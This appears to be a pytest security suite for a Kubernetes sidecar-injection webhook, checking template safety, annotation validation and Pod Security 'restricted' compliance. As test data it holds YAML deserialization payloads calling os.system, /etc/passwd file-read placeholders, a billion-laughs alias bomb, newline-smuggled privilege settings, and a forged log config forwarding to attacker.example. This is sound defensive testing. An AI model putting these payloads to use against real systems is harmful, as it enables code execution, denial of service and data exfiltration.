"""Issue 6, "Security": templates cannot execute code or read files, annotation values are data only,
and injected containers satisfy Pod Security "restricted" (checked by tests/pss.py, written from the
standard, and cross-checked against webhook/catalog/restricted.py).

Everything goes through the user's entry points: `podpatterns catalog validate DIR`,
`podpatterns inject -f FILE --catalog DIR` and `podpatterns serve --catalog DIR` over HTTPS.
"""

from __future__ import annotations

import copy
import json
import resource
import subprocess
import tempfile
import textwrap
import time
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests import pss
from tests.helpers import (
    Server,
    apply,
    assert_valid_pod,
    ops_of,
    podpatterns_command,
    review_with,
)
from webhook.cli import commands as cli

SECURE = {"runAsNonRoot": True, "runAsUser": 65532, "allowPrivilegeEscalation": False,
          "capabilities": {"drop": ["ALL"]}, "seccompProfile": {"type": "RuntimeDefault"}}

# One entry with a free string parameter, and typed/patterned ones, for the hostile-input tests.
HELPER = textwrap.dedent("""\
    apiVersion: podpatterns.io/v1alpha1
    kind: PatternTemplate
    metadata: {name: helper}
    spec:
      pattern: sidecar
      lifecycle: regular
      parameters:
      - {name: text, type: string, default: plain}
      - {name: port, type: integer, default: 8080, minimum: 1024, maximum: 65535}
      - {name: debug, type: boolean, default: false}
      - {name: host, type: string, default: a.example, pattern: '^[a-z0-9.-]+$'}
      containers:
      - name: helper
        image: example/helper:1.0
        args: ["--text=${params.text}", "--port=${params.port}", "--debug=${params.debug}", "${params.host}"]
        env:
        - {name: TEXT, value: "${params.text}"}
        ports: [{name: helper, containerPort: "${params.port}"}]
        securityContext: {runAsNonRoot: true, runAsUser: 65532, allowPrivilegeEscalation: false,
                          capabilities: {drop: [ALL]}, seccompProfile: {type: RuntimeDefault}}
    """)


def write_catalogue(folder: Path, text: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "entry.yaml").write_text(text)
    return folder


def entry(args: str = '["run"]', extra: str = "", description: str = "x") -> str:
    """A restricted-compliant entry with `args` and `extra` lines in its container."""
    return textwrap.dedent("""\
        apiVersion: podpatterns.io/v1alpha1
        kind: PatternTemplate
        metadata: {name: probe}
        spec:
          pattern: sidecar
          lifecycle: regular
          description: DESCRIPTION
          parameters:
          - {name: greeting, type: string, default: "${pod.name} {{ 7*7 }} $$"}
          containers:
          - name: probe
            image: example/probe:1.0
            args: ARGS
        EXTRA
            securityContext: {runAsNonRoot: true, runAsUser: 65532, allowPrivilegeEscalation: false,
                              capabilities: {drop: [ALL]}, seccompProfile: {type: RuntimeDefault}}
        """).replace("DESCRIPTION", description).replace("ARGS", args).replace("EXTRA\n", extra)


def validate(folder: Path, capsys) -> tuple[int, str, str]:
    code = cli.main(["catalog", "validate", str(folder)])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def pod_manifest(annotations: dict[str, str], name: str = "mypod") -> dict:
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": "shop", "annotations": annotations},
            "spec": {"containers": [{"name": "app", "image": "example/app:1", "securityContext": copy.deepcopy(SECURE)}]}}


def inject(tmp_path: Path, pod: dict, catalog: Path, capsys) -> tuple[int, dict | None, str]:
    manifest = tmp_path / "pod.yaml"
    manifest.write_text(yaml.safe_dump(pod))
    code = cli.main(["inject", "-f", str(manifest), "--catalog", str(catalog)])
    captured = capsys.readouterr()
    return code, (yaml.safe_load(captured.out) if code == 0 else None), captured.err


def container_named(pod: dict, name: str) -> dict:
    found = [c for key in ("containers", "initContainers") for c in pod["spec"].get(key, []) if c["name"] == name]
    assert len(found) == 1, pod
    return found[0]


# ---------------------------------------------------------------------------------------------------
# 1. No template can execute code or read files
# ---------------------------------------------------------------------------------------------------

# (case, entry text, line, message): each refused by `catalog validate` with file:line.
REFUSED = [
    ("python-object-apply", entry(description="!!python/object/apply:os.system ['touch MARKER']"), 7,
     "invalid YAML: could not determine a constructor for the tag 'tag:yaml.org,2002:python/object/apply:os.system'"),
    ("python-name", entry(args="!!python/name:os.system"), 13,
     "invalid YAML: could not determine a constructor for the tag 'tag:yaml.org,2002:python/name:os.system'"),
    ("python-module", entry(description="!!python/module:os"), 7,
     "invalid YAML: could not determine a constructor for the tag 'tag:yaml.org,2002:python/module:os'"),
    ("custom-tag", entry(args="!include /etc/passwd"), 13,
     "invalid YAML: could not determine a constructor for the tag '!include'"),
    ("binary", entry(description="!!binary aGVsbG8="), 7,
     "a value of YAML type bytes is not allowed: use a string, number, boolean, list or mapping (quote dates)"),
    ("set", entry(args="!!set {a, b}"), 13, "a value of YAML type set is not allowed"),
    ("date", entry(description="2020-01-01"), 7, "a value of YAML type date is not allowed"),
    ("integer-key", entry(extra="    env: [{1: x}]\n"), 14, "key 1 must be a string (quote it)"),
    ("recursive-alias", entry(args="&a [x, *a]"), 13, "alias *a refers to the collection it is in"),
    ("deep-nesting", entry(args="[" * 200 + "]" * 200), 13, "nested deeper than 64 levels"),
    ("params-attribute", entry(args='["${params.greeting.__class__}"]'), 13,
     "unknown placeholder ${params.greeting.__class__}; known: params.greeting, pod.name, pod.namespace, pod.serviceAccountName"),
    ("env", entry(args='["${env.HOME}"]'), 13, "unknown placeholder ${env.HOME}; known: params.greeting"),
    ("file", entry(args='["${file:/etc/passwd}"]'), 13, "unknown placeholder ${file:/etc/passwd}; known:"),
    ("empty", entry(args='["${}"]'), 13, "unknown placeholder ${}; known:"),
    ("scope-only", entry(args='["${pod}"]'), 13, "unknown placeholder ${pod}; known:"),
    ("placeholder-in-key", entry(extra='    resources: {limits: {"${params.greeting}": 1}}\n'), 14,
     "placeholders are not allowed in keys: '${params.greeting}'"),
]


@pytest.mark.parametrize(("case", "text", "line", "message"), REFUSED, ids=[r[0] for r in REFUSED])
def test_catalog_validate_refuses_code_files_and_odd_yaml_with_file_and_line(tmp_path, capsys, monkeypatch, case, text, line, message):
    monkeypatch.chdir(tmp_path)
    folder = write_catalogue(tmp_path / "catalog", text)
    code, out, err = validate(folder, capsys)
    assert code == 1, out
    assert f"{folder / 'entry.yaml'}:{line}: " in err, err
    assert message in err, err
    assert not (tmp_path / "MARKER").exists()


def billion_laughs(levels: int = 9) -> str:
    anchors = ["  l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    anchors += [f"  l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 10) + "]" for i in range(1, levels)]
    return entry(args=f"*l{levels - 1}").replace("spec:\n", "x-lols:\n" + "\n".join(anchors) + "\nspec:\n", 1)


def limited(memory_bytes: int):
    def apply_limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory_bytes, memory_bytes))
    return apply_limit


@pytest.mark.parametrize("command", ["validate", "serve"])
def test_an_alias_bomb_is_refused_quickly_within_bounded_memory(tmp_path, command):
    """10^9 values once expanded: refused in seconds under a 1 GiB address-space limit, naming the line."""
    folder = write_catalogue(tmp_path / "catalog", billion_laughs())
    args = ["catalog", "validate", str(folder)] if command == "validate" else \
        ["serve", "--catalog", str(folder), "--port", "0", "--quiet"]
    start = time.monotonic()
    done = subprocess.run([*podpatterns_command(), *args], cwd=tmp_path, capture_output=True, text=True, timeout=60,
                          preexec_fn=limited(1 << 30))
    assert time.monotonic() - start < 30
    assert done.returncode == (1 if command == "validate" else 2), done.stderr
    assert f"{folder / 'entry.yaml'}:9: more than 20000 values once YAML aliases are expanded" in done.stderr, done.stderr


def test_aliases_within_the_bound_still_load(tmp_path, capsys):
    text = entry(args="&args [a, b]", extra="    command: *args\n")
    code, out, err = validate(write_catalogue(tmp_path / "catalog", text), capsys)
    assert code == 0, err
    assert "ok: probe (sidecar)" in out


# Strings that look like code or placeholders in other languages, and escapes: (template text, rendered).
LITERAL = [
    ("{{ config.__class__.__init__.__globals__ }}", "{{ config.__class__.__init__.__globals__ }}"),  # Jinja
    ("{0.__class__} {pod.name}", "{0.__class__} {pod.name}"),  # str.format
    ("%(x)s %s", "%(x)s %s"),  # printf
    ("$HOME $(HOME) ${HOME", "$HOME $(HOME) ${HOME"),  # shell; an unclosed ${ is not a placeholder
    ("$$", "$"),
    ("$${pod.name}", "${pod.name}"),  # escaped: a literal placeholder
    ("$$$${pod.name}", "$${pod.name}"),
    ("a$$b${pod.name}", "a$bmypod"),
    ("${ pod.name }", "mypod"),
    ("${params.greeting}", "${pod.name} {{ 7*7 }} $$"),  # a default holding a placeholder is not expanded
]


def test_templates_render_everything_but_our_placeholders_literally(tmp_path, capsys):
    args = json.dumps([template for template, _ in LITERAL])
    catalog = write_catalogue(tmp_path / "catalog", entry(args=args))
    code, pod, err = inject(tmp_path, pod_manifest({"podpatterns.io/inject": "probe"}), catalog, capsys)
    assert code == 0, err
    assert container_named(pod, "probe")["args"] == [rendered for _, rendered in LITERAL]


@pytest.mark.parametrize("value", ["${pod.name}", "${pod.namespace}$${pod.name}", "$$", "${params.greeting}",
                                   "{{ 7*7 }}", "{0.__class__}", "%(x)s", "$(HOME)"])
def test_a_parameter_value_is_never_expanded_again(tmp_path, capsys, value):
    catalog = write_catalogue(tmp_path / "catalog", entry(args='["${params.greeting}", "${pod.name}"]'))
    pod = pod_manifest({"podpatterns.io/inject": "probe", "probe.podpatterns.io/greeting": value})
    code, injected, err = inject(tmp_path, pod, catalog, capsys)
    assert code == 0, err
    assert container_named(injected, "probe")["args"] == [value, "mypod"]


# ---------------------------------------------------------------------------------------------------
# 2. Annotation values are data, validated; nothing but declared parameters can be set
# ---------------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory):
    workdir = tmp_path_factory.mktemp("security")
    write_catalogue(workdir / "catalog", HELPER)
    running = Server(workdir, "--catalog", str(workdir / "catalog"), "--quiet")
    yield running
    running.stop()


def mutate(server: Server, annotations: dict[str, str]) -> tuple[dict, dict]:
    body = review_with({"podpatterns.io/inject": "helper", **annotations})
    reply = server.mutate(body)
    assert reply.status_code == 200, reply.text
    return body, reply.json()["response"]


def json_paths(node, prefix=()) -> set[tuple]:
    """Every path to a leaf (list positions included) of a JSON value."""
    if isinstance(node, dict):
        return {p for key, value in node.items() for p in json_paths(value, prefix + (key,))} or {prefix}
    if isinstance(node, list):
        return {p for i, value in enumerate(node) for p in json_paths(value, prefix + (i,))} or {prefix}
    return {prefix}


TEMPLATE_PATHS = json_paths(yaml.safe_load(HELPER)["spec"]["containers"][0])
ACCEPTED = [
    '{"a": 1}', "[1, 2]", "- item", "x: y", "privileged: true", '"quoted"', "&a *a", "!!python/object:os.system",
    "~1spec~1containers", "/spec/containers/-", "--privileged", "a b\tc".replace("\t", " "), "héllo ✓ 日本",
    "${pod.name}", "$$", "", "x" * 1024,
]


@pytest.mark.parametrize("value", ACCEPTED, ids=range(len(ACCEPTED)))
def test_a_string_value_is_injected_exactly_as_given_and_adds_no_field(hostile_server, value):
    body, response = mutate(hostile_server, {"helper.podpatterns.io/text": value})
    assert response["allowed"] is True, response
    ops = ops_of(response)
    patched = apply(body["request"]["object"], ops)
    assert_valid_pod(patched)
    helper = container_named(patched, "helper")
    assert json_paths(helper) == TEMPLATE_PATHS
    assert helper["args"] == [f"--text={value}", "--port=8080", "--debug=false", "a.example"]
    assert helper["env"] == [{"name": "TEXT", "value": value}]
    # The patch touches only what injection adds: the container list and the two annotations.
    assert {op["path"] for op in ops} <= {"/spec/containers/-", "/metadata/annotations/podpatterns.io~1status",
                                           "/metadata/annotations/kubectl.kubernetes.io~1default-container"}, ops


# (annotation, value, what the denial must say)
DENIED = [
    ("text", "x\n  privileged: true", "expected a string of at most 1024 printable characters"),
    ("text", "a\r\nb", "expected a string of at most 1024 printable characters"),
    ("text", "nul\x00byte", "expected a string of at most 1024 printable characters"),
    ("text", "next\x85line", "expected a string of at most 1024 printable characters"),
    ("text", "line\u2028separator", "expected a string of at most 1024 printable characters"),
    ("text", "esc\x1b[31m", "expected a string of at most 1024 printable characters"),
    ("text", "x" * 1025, "expected a string of at most 1024 printable characters"),
    ("port", "8080\n  hostPort: 80", "expected an integer from 1024 to 65535"),
    ("port", "80", "expected an integer from 1024 to 65535"),
    ("port", "0x1f90", "expected an integer from 1024 to 65535"),
    ("port", "8e3", "expected an integer from 1024 to 65535"),
    ("port", '{"a": 1}', "expected an integer from 1024 to 65535"),
    ("port", "9" * 30, "expected an integer from 1024 to 65535"),
    ("debug", "yes", 'expected "true" or "false"'),
    ("debug", "true\nprivileged: true", 'expected "true" or "false"'),
    ("host", "a.example --privileged", "expected a string matching ^[a-z0-9.-]+$"),
    ("host", "a.example\n", "expected a string matching ^[a-z0-9.-]+$"),
]


@pytest.mark.parametrize(("param", "value", "expected"), DENIED, ids=range(len(DENIED)))
def test_a_bad_value_is_denied_naming_the_annotation(hostile_server, param, value, expected):
    _, response = mutate(hostile_server, {f"helper.podpatterns.io/{param}": value})
    assert response["allowed"] is False
    assert "patch" not in response
    message = response["status"]["message"]
    assert message.startswith(f"annotation helper.podpatterns.io/{param}: value "), message
    assert message.endswith(f"is not accepted: {expected}"), message


@pytest.mark.parametrize("key", [
    "helper.podpatterns.io/privileged", "helper.podpatterns.io/securityContext", "helper.podpatterns.io/image",
    "helper.podpatterns.io/~1spec~1containers", "helper.podpatterns.io//spec/containers/0/securityContext",
    "helper.podpatterns.io/text/../privileged", "helper.podpatterns.io/~0", "helper.podpatterns.io/",
])
def test_an_undeclared_parameter_is_denied(hostile_server, key):
    _, response = mutate(hostile_server, {key: "true"})
    assert response["allowed"] is False
    param = key.split("podpatterns.io/", 1)[1]
    assert response["status"]["message"] == (
        f"annotation {key}: helper has no parameter {param!r}; its parameters: text, port, debug, host")


@pytest.mark.parametrize(("key", "warning"), [
    ("log-shipper.podpatterns.io/endpoint", "log-shipper is not requested for this Pod; ignored"),
    ("evil.podpatterns.io/privileged", "there is no catalogue entry 'evil'; ignored"),
    ("~1spec~1containers.podpatterns.io/x", "there is no catalogue entry '~1spec~1containers'; ignored"),
    ("/spec/hostNetwork.podpatterns.io/x", "there is no catalogue entry '/spec/hostNetwork'; ignored"),
])
def test_parameters_of_other_entries_change_nothing(hostile_server, key, warning):
    body, response = mutate(hostile_server, {key: "evil.example:1"})
    assert response["allowed"] is True
    assert response["warnings"] == [f"annotation {key}: {warning}"]
    patched = apply(body["request"]["object"], ops_of(response))
    assert [c["name"] for c in patched["spec"]["containers"]][1:] == ["helper"]
    assert "evil" not in json.dumps(patched["spec"])
    assert not patched["spec"].get("hostNetwork")


# ---------------------------------------------------------------------------------------------------
# 3. Pod Security "restricted"
# ---------------------------------------------------------------------------------------------------

BUILTINS = ["log-shipper", "json-log-adapter", "db-ambassador"]
RESTRICTED_POD_ANNOTATIONS = {"db-ambassador.podpatterns.io/upstream": "pg.prod.svc:5432"}


def restricted_review(entries: list[str]) -> dict:
    body = review_with({"podpatterns.io/inject": ", ".join(entries), **RESTRICTED_POD_ANNOTATIONS})
    spec = body["request"]["object"]["spec"]
    for container in spec["containers"]:
        container["securityContext"] = copy.deepcopy(SECURE)
    spec.pop("initContainers", None)
    return body


@pytest.fixture(scope="module")
def regular_server(tmp_path_factory):
    """A server for a cluster without native sidecars: entries become regular containers."""
    running = Server(tmp_path_factory.mktemp("regular"), "--kube-version", "1.28", "--quiet")
    yield running
    running.stop()


@pytest.mark.parametrize("entries", [[e] for e in BUILTINS] + [BUILTINS], ids=lambda e: "+".join(e))
@pytest.mark.parametrize("which", ["native", "regular"])
def test_builtins_injected_into_a_restricted_pod_keep_it_restricted(server, regular_server, which, entries):
    body = restricted_review(entries)
    pod = body["request"]["object"]
    assert pss.violations(pod) == []
    reply = (server if which == "native" else regular_server).mutate(body)
    response = reply.json()["response"]
    assert response["allowed"] is True, response
    patched = apply(pod, ops_of(response))
    assert_valid_pod(patched)
    injected = [c["name"] for key in ("containers", "initContainers") for c in patched["spec"].get(key, [])]
    assert set(entries) <= set(injected)
    assert pss.violations(patched) == []


# The checker itself must catch each control: one Pod per control, built from a compliant one.
def _compliant_pod() -> dict:
    return {"metadata": {"name": "p"}, "spec": {
        "containers": [{"name": "c", "image": "i", "securityContext": copy.deepcopy(SECURE)}],
        "volumes": [{"name": "v", "emptyDir": {}}]}}


def _set(path: str, value):
    def change(pod: dict) -> None:
        *parents, last = path.split(".")
        node = pod
        for step in parents:
            node = node[int(step)] if step.isdigit() else node.setdefault(step, {})
        if value is None:
            node.pop(last, None)
        else:
            node[int(last) if last.isdigit() else last] = value
    return change


C = "spec.containers.0.securityContext"
CONTROL_CASES = [
    ("HostProcess", _set("spec.securityContext.windowsOptions.hostProcess", True)),
    ("HostProcess", _set(f"{C}.windowsOptions.hostProcess", True)),
    ("Host Namespaces", _set("spec.hostNetwork", True)),
    ("Host Namespaces", _set("spec.hostPID", True)),
    ("Host Namespaces", _set("spec.hostIPC", True)),
    ("Privileged Containers", _set(f"{C}.privileged", True)),
    ("Capabilities", _set(f"{C}.capabilities.add", ["SYS_ADMIN"])),
    ("HostPath Volumes", _set("spec.volumes.0.hostPath", {"path": "/"})),
    ("Host Ports", _set("spec.containers.0.ports", [{"containerPort": 80, "hostPort": 80}])),
    ("AppArmor", _set(f"{C}.appArmorProfile", {"type": "Unconfined"})),
    ("AppArmor", _set("spec.securityContext.appArmorProfile", {"type": "Unconfined"})),
    ("AppArmor", _set("metadata.annotations", {"container.apparmor.security.beta.kubernetes.io/c": "unconfined"})),
    ("SELinux", _set(f"{C}.seLinuxOptions", {"type": "spc_t"})),
    ("SELinux", _set("spec.securityContext.seLinuxOptions", {"user": "system_u"})),
    ("SELinux", _set(f"{C}.seLinuxOptions", {"role": "sysadm_r"})),
    ("/proc Mount Type", _set(f"{C}.procMount", "Unmasked")),
    ("Seccomp", _set(f"{C}.seccompProfile", {"type": "Unconfined"})),
    ("Seccomp", _set("spec.securityContext.seccompProfile", {"type": "Unconfined"})),
    ("Sysctls", _set("spec.securityContext.sysctls", [{"name": "kernel.msgmax", "value": "1"}])),
    ("Volume Types", _set("spec.volumes.0", {"name": "v", "nfs": {"server": "s", "path": "/"}})),
    ("Privilege Escalation", _set(f"{C}.allowPrivilegeEscalation", None)),
    ("Privilege Escalation", _set(f"{C}.allowPrivilegeEscalation", True)),
    ("Running as Non-root", _set(f"{C}.runAsNonRoot", None)),
    ("Running as Non-root", _set(f"{C}.runAsNonRoot", False)),
    ("Running as Non-root user", _set(f"{C}.runAsUser", 0)),
    ("Running as Non-root user", _set("spec.securityContext.runAsUser", 0)),
    ("Seccomp (restricted)", _set(f"{C}.seccompProfile", None)),
    ("Capabilities (restricted)", _set(f"{C}.capabilities.drop", ["NET_RAW"])),
    ("Capabilities (restricted)", _set(f"{C}.capabilities.add", ["CHOWN"])),
]


def test_every_control_of_the_standard_has_a_case():
    assert {control for control, _ in CONTROL_CASES} == set(pss.CONTROLS)


@pytest.mark.parametrize(("control", "change"), CONTROL_CASES, ids=[f"{i}-{c[0]}" for i, c in enumerate(CONTROL_CASES)])
def test_the_independent_checker_catches_each_control(control, change):
    pod = _compliant_pod()
    assert pss.violations(pod) == []
    change(pod)
    found = pss.violations(pod)
    assert any(v.startswith(f"{control}: ") for v in found), found


def test_pod_level_settings_satisfy_container_rules_as_the_standard_says():
    pod = _compliant_pod()
    pod["spec"]["securityContext"] = {"runAsNonRoot": True, "seccompProfile": {"type": "Localhost", "localhostProfile": "p"}}
    for key in ("runAsNonRoot", "seccompProfile"):
        del pod["spec"]["containers"][0]["securityContext"][key]
    assert pss.violations(pod) == []
    pod["spec"]["initContainers"] = [{"name": "i", "image": "i", "securityContext": {"privileged": True}}]
    assert {v.split(":")[0] for v in pss.violations(pod)} == {"Privileged Containers", "Privilege Escalation",
                                                               "Capabilities (restricted)"}


# Container-level settings a catalogue entry can hold, each value compliant or not.
SECURITY_FIELDS = {
    "privileged": st.sampled_from([None, False, True]),
    "allowPrivilegeEscalation": st.sampled_from([None, False, False, True]),
    "runAsNonRoot": st.sampled_from([None, True, True, False]),
    "runAsUser": st.sampled_from([None, 0, 1000, 65532]),
    "capabilities": st.fixed_dictionaries({}, optional={
        "drop": st.lists(st.sampled_from(["ALL", "ALL", "NET_RAW", "all"]), max_size=2),
        "add": st.lists(st.sampled_from(["NET_BIND_SERVICE", "CHOWN", "SYS_ADMIN", "ALL"]), max_size=2)}),
    "seccompProfile": st.sampled_from([None, {"type": "RuntimeDefault"}, {"type": "Localhost", "localhostProfile": "p"},
                                       {"type": "Unconfined"}]),
    "appArmorProfile": st.sampled_from([None, {"type": "RuntimeDefault"}, {"type": "Unconfined"}]),
    "procMount": st.sampled_from([None, "Default", "Unmasked"]),
    "seLinuxOptions": st.sampled_from([None, {"level": "s0:c1"}, {"type": "container_t"}, {"type": "spc_t"},
                                       {"user": "system_u"}, {"role": "r"}]),
    "windowsOptions": st.sampled_from([None, {"hostProcess": False}, {"hostProcess": True}]),
}


@st.composite
def hostile_containers(draw):
    """A mostly restricted container with some fields drawn from compliant and violating values."""
    sc = copy.deepcopy(SECURE)
    for field in draw(st.lists(st.sampled_from(sorted(SECURITY_FIELDS)), min_size=1, max_size=3, unique=True)):
        value = draw(SECURITY_FIELDS[field])
        if value is None:
            sc.pop(field, None)
        else:
            sc[field] = value
    container = {"name": "gen", "image": "example/gen:1.0", "securityContext": sc}
    host_port = draw(st.sampled_from([None, None, 0, 80, 9090]))
    if host_port is not None:
        container["ports"] = [{"containerPort": 8080, "hostPort": host_port}]
    volume = draw(st.sampled_from([{"emptyDir": {}}, {"configMap": {"name": "c"}}, {"hostPath": {"path": "/"}},
                                   {"nfs": {"server": "s", "path": "/"}}, {"gitRepo": {"repository": "r"}}]))
    return container, {"name": "gen-data", **volume}


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(hostile_containers())
def test_our_load_check_reports_exactly_what_the_standard_forbids(capsys, generated):
    """Cross-check: an entry loads with a restricted warning if and only if the Pod it is injected into
    (a restricted one, with no pod-level settings) breaks the standard."""
    container, volume = generated
    with tempfile.TemporaryDirectory() as tmp:
        tmp_path = Path(tmp)
        doc = {"apiVersion": "podpatterns.io/v1alpha1", "kind": "PatternTemplate", "metadata": {"name": "gen"},
               "spec": {"pattern": "sidecar", "lifecycle": "regular", "containers": [container], "volumes": [volume]}}
        catalog = write_catalogue(tmp_path / "catalog", yaml.safe_dump(doc))
        code, out, err = validate(catalog, capsys)
        assert code == 0, err
        ours = [line for line in out.splitlines() if line.startswith("warning: gen: not Pod Security 'restricted'")]
        code, pod, err = inject(tmp_path, pod_manifest({"podpatterns.io/inject": "gen"}), catalog, capsys)
        assert code == 0, err
        theirs = pss.violations(pod)
        assert bool(ours) == bool(theirs), (ours, theirs)
        assert not [v for v in theirs if "spec.containers[0]" in v]  # the app container stays compliant


# A field the rules look at, filled from a parameter: compliant by default, broken by an annotation.
PARAMETERIZED = [
    ("privileged", "{name: v, type: boolean, default: false}", "privileged: \"${params.v}\"", "true",
     "Privileged Containers"),
    ("allowPrivilegeEscalation", "{name: v, type: boolean, default: false}",
     "allowPrivilegeEscalation: \"${params.v}\"", "true", "Privilege Escalation"),
    ("runAsNonRoot", "{name: v, type: boolean, default: true}", "runAsNonRoot: \"${params.v}\"", "false",
     "Running as Non-root"),
    ("runAsUser", "{name: v, type: integer, default: 1000}", "runAsUser: \"${params.v}\"", "0",
     "Running as Non-root user"),
    ("seccompProfile.type", "{name: v, type: string, default: RuntimeDefault}",
     "seccompProfile: {type: \"${params.v}\"}", "Unconfined", "Seccomp"),
    ("capabilities.add[0]", "{name: v, type: string, default: NET_BIND_SERVICE}",
     "capabilities: {drop: [ALL], add: [\"${params.v}\"]}", "SYS_ADMIN", "Capabilities"),
]


@pytest.mark.parametrize(("field", "parameter", "line", "value", "control"), PARAMETERIZED, ids=[p[0] for p in PARAMETERIZED])
def test_a_rule_field_filled_by_a_parameter_is_reported_at_load(tmp_path, capsys, field, parameter, line, value, control):
    sc = {k: v for k, v in SECURE.items() if k != field.split(".")[0]}
    text = textwrap.dedent(f"""\
        apiVersion: podpatterns.io/v1alpha1
        kind: PatternTemplate
        metadata: {{name: knob}}
        spec:
          pattern: sidecar
          lifecycle: regular
          parameters: [{parameter}]
          containers:
          - name: knob
            image: example/knob:1.0
            securityContext:
              {line}
        """) + "".join(f"      {k}: {json.dumps(v)}\n" for k, v in sc.items())
    catalog = write_catalogue(tmp_path / "catalog", text)
    code, out, err = validate(catalog, capsys)
    assert code == 0, err
    assert (f"warning: knob: not Pod Security 'restricted': container knob: securityContext.{field} is set from a "
            "placeholder; a Pod's annotation could change it") in out, out
    # What the warning is about: the default is compliant, the annotation is not.
    code, pod, err = inject(tmp_path, pod_manifest({"podpatterns.io/inject": "knob"}), catalog, capsys)
    assert code == 0 and pss.violations(pod) == [], err
    code, pod, err = inject(tmp_path, pod_manifest({"podpatterns.io/inject": "knob", "knob.podpatterns.io/v": value}),
                            catalog, capsys)
    assert code == 0, err
    assert any(v.startswith(f"{control}: spec.containers[1].securityContext") for v in pss.violations(pod))


def test_a_config_annotation_the_pod_brings_is_replaced_by_the_entrys_own(server):
    """The adapter's Fluent Bit configuration reaches it as an annotation (through a downwardAPI volume):
    a Pod that arrives with its own value under that key gets the entry's, so the config file is the
    catalogue's, whatever the Pod said."""
    key = "json-log-adapter.config.podpatterns.io/fluent-bit.yaml"
    forged = "pipeline:\n  outputs:\n    - name: forward\n      host: attacker.example\n"
    body = review_with({"podpatterns.io/inject": "json-log-adapter", key: forged})
    response = server.mutate(body).json()["response"]
    assert response["allowed"], response
    pod = apply(body["request"]["object"], ops_of(response))
    config = pod["metadata"]["annotations"][key]
    assert "attacker" not in config and "name: stdout" in config
    volume = next(v for v in pod["spec"]["volumes"] if v["name"] == "podpatterns-json-log-adapter-config")
    assert volume["downwardAPI"]["items"][0]["fieldRef"]["fieldPath"] == f"metadata.annotations['{key}']"
